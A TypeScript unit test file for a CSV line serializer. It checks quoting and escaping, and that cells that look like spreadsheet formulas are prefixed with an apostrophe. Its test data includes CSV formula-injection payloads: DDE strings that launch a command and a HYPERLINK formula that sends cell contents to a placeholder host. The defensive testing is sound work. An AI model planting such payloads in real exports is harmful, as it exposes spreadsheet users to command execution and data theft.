import { SeededRandom } from '../../../../test/support/seeded-random';
import { parseCsv } from '../testing/parse-csv';
import { csvLine } from './csv';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://example.test/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\0=1+1',
  '=',
  '-',
  '-5',
  '+49 30 1234',
  '=1+1";=1+1',
  '=1\r\n=2',
];

describe('csvLine', () => {
  it.each<[Parameters<typeof csvLine>[0], string]>([
    [[], '\r\n'],
    [['a', 'b c', ''], '"a","b c",""\r\n'],
    [[null, 0, -1.5, true, false], '"","0","-1.5","true","false"\r\n'],
    [['say "hi"', 'a,b', 'a\r\nb'], '"say ""hi""","a,b","a\r\nb"\r\n'],
    [[{ amount: '0.0000015' }, { amount: '-2.5' }], '"0.0000015","-2.5"\r\n'],
    [["'", 'a=b', ' =1', 'ü\u{1F9A6}'], `"'","a=b"," =1","ü\u{1F9A6}"\r\n`],
  ])('%j', (cells, line) => {
    expect(csvLine(cells)).toBe(line);
  });

  it.each(FORMULAS)('hands no spreadsheet %j to run', (text) => {
    const line = csvLine(['before', text, 'after']);
    expect(line.startsWith(`"before","'`)).toBe(true);
    expect(parseCsv(line)).toEqual([['before', `'${text}`, 'after']]);
  });

  it.each([1, 2, 3])('any text comes back, and no cell begins as a formula does (seed %d)', (seed) => {
    const random = new SeededRandom(seed);
    const pieces = [
      '"',
      '""',
      ',',
      '\r',
      '\n',
      '\r\n',
      "'",
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\0',
      'x',
      'é',
      '\u{1F9A6}',
      ' ',
    ];
    const text = (): string => random.some(6, () => random.pick(pieces)).join('');
    const rows = Array.from({ length: 300 }, () => Array.from({ length: 1 + random.below(4) }, text));
    const parsed = parseCsv(rows.map(csvLine).join(''));
    for (const cell of parsed.flat()) expect('=+-@\t\r\0'.split('')).not.toContain(cell.charAt(0));
    const isGuarded = (cell: string): boolean => /^'[=+\-@\t\r\0]/.test(cell);
    // A text that began with the apostrophe itself cannot be told from a guarded one; here both are without it.
    const bare = (cell: string): string => (isGuarded(cell) ? cell.slice(1) : cell);
    expect(parsed.map((row) => row.map(bare))).toEqual(rows.map((row) => row.map(bare)));
  });
});
